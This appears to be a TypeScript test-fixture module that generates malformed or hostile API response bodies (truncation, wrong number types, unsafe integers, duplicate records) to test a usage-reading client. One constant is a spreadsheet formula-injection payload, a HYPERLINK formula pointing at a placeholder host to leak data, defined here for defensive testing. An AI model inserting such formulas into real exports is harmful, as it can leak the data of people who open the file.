// Provider facts: docs/providers/README.md#simulators
/**
 * Bodies a provider answers with 200 that a careful client must refuse rather than read as usage.
 * Generic over any API's JSON, so every simulator can reuse them.
 */
import type { ShapeFaultKind } from './fault-injector.js'

/** Looks like what a proxy or a load balancer returns in place of the API. */
export const MALFORMED_BODY = '<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1></body></html>'

/** The first half of the real body, as if the connection dropped mid-answer behind a proxy that still said 200. */
export function truncateText (text: string): string {
  return text.slice(0, Math.floor(text.length / 2))
}

/**
 * The same structure with every number (and every all-digit string, as some Alibaba APIs send numbers as strings)
 * replaced in turn by a negative number, a fraction and an object: each must be refused, none summed.
 */
export function withWrongTypes (value: unknown): unknown {
  let replaced = 0
  const wrongValue = (original: number): unknown => {
    const variant = replaced % 3
    replaced += 1
    if (variant === 0) return -(original + 1)
    if (variant === 1) return original + 0.5
    return { Value: original }
  }
  const walk = (node: unknown): unknown => {
    if (typeof node === 'number') return wrongValue(node)
    if (typeof node === 'string' && /^\d+$/.test(node)) return wrongValue(Number(node))
    if (Array.isArray(node)) return node.map(walk)
    if (node !== null && typeof node === 'object') {
      return Object.fromEntries(Object.entries(node).map(([key, child]) => [key, walk(child)]))
    }
    return node
  }
  return walk(value)
}

/** Past 2^53 - 1, even, so that JSON.parse reads it back exactly and only its size can refuse it. */
export const UNSAFE_INTEGER = 2 ** 53 + 2

/** The smallest value whose × 60 passes 2^53 - 1: a safe count, but minutes that cannot become seconds exactly. */
export const LARGE_VALUE = Math.floor(Number.MAX_SAFE_INTEGER / 60) + 1

/**
 * A dimension value a spreadsheet would run as a formula (a link that leaks data when clicked): a provider echoing
 * what a customer typed as a domain or profile name can send it, and a CSV answer must neutralise it.
 */
export const FORMULA_VALUE = '=HYPERLINK("http://x.invalid/?leak","open")'

/**
 * How one API's success body is made hostile in its own shape: a simulated action must say how (its records, its
 * usage fields, its free-text dimension), so every simulator, and so every adapter's contract, covers these faults. Returns the new body
 * (or the same one, changed); a body with no record to change is returned as it is.
 */
export type HostileBody = (body: Record<string, unknown>, fault: ShapeFaultKind) => Record<string, unknown>

/**
 * The usual way to apply a shape fault to the first record of a list: `records` finds the list in the body and
 * `field` names the usage field to remove or change. `asString` writes numbers as numeric strings, as the API does.
 * `dimension` names the record's free-text field that becomes a dimension value, or is null when the API's records
 * carry none (every dimension is then one the call asked for, or a code the adapter checks): that fault is then
 * spent without effect.
 */
export function hostileFirstRecord (
  records: (body: Record<string, unknown>) => Array<Record<string, unknown>> | undefined,
  field: string,
  dimension: string | null
): HostileBody {
  return (body, fault) => {
    const list = records(body)
    const first = list?.[0]
    if (list === undefined || first === undefined) return body
    const asString = typeof first[field] === 'string'
    const write = (value: number): number | string => asString ? String(value) : value
    switch (fault) {
      case 'duplicate-record':
        list.push(structuredClone(first))
        break
      case 'absent-field':
        delete first[field]
        break
      case 'unsafe-integer':
        // JSON.stringify writes 9007199254740994 exactly; a numeric string carries it exactly too.
        first[field] = write(UNSAFE_INTEGER)
        break
      case 'large-value':
        first[field] = write(Number(first[field]) + LARGE_VALUE)
        break
      case 'formula-dimension':
        if (dimension !== null) first[dimension] = FORMULA_VALUE
        break
      default:
        return unhandled(fault)
    }
    return body
  }
}

/** A shape fault added to ShapeFaultKind without a case above fails to compile here. */
function unhandled (fault: never): never {
  throw new Error(`unhandled shape fault ${String(fault)}`)
}
